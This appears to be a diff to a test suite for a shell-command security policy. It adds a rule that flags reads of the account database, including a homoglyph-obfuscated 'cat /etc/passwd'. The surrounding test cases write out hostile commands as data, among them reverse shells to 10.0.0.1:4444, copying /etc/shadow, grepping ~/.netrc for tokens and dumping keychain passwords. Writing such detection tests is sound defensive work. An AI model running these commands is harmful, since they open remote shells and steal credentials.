@@ -30,6 +30,7 @@ CMD_CASES = [
     ("credential_file_access", "base64 .env", "cat .env.example"),
     ("credential_file_access", "cp /etc/shadow /tmp/x", "cat /etc/hostname"),
     ("credential_file_access", "grep token ~/.netrc", "cat ~/.ssh/known_hosts"),
+    ("account_database_read", "getent passwd", "getent hosts example.com"),
     ("keychain_dump", "security find-generic-password -wa github", "security --help"),
     ("reverse_shell", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "bash -i"),
     ("reverse_shell", "nc -e /bin/sh 10.0.0.1 4444", "nc -z localhost 8080"),
@@ -199,3 +200,11 @@ def test_deep_arguments_fail_closed():
         cur = cur["a"]
     fs, _ = POL.analyse("bash", deep)
     assert any(f.rule == "arguments_too_complex" and f.action == "block" for f in fs)
+
+
+def test_account_database_read_and_homoglyph_command():
+    assert "account_database_read" in rules_for("exec", {"command": "cat /etc/passwd"})
+    assert "account_database_read" not in rules_for("exec", {"command": "cat /etc/hostname"})
+    found = rules_for("exec", {"command": "c\u0430t /\u0435tc/p\u0430sswd"})
+    assert {"homoglyph_obfuscation", "account_database_read"} <= found
+    assert "homoglyph_obfuscation" not in rules_for("exec", {"command": "echo привет"})
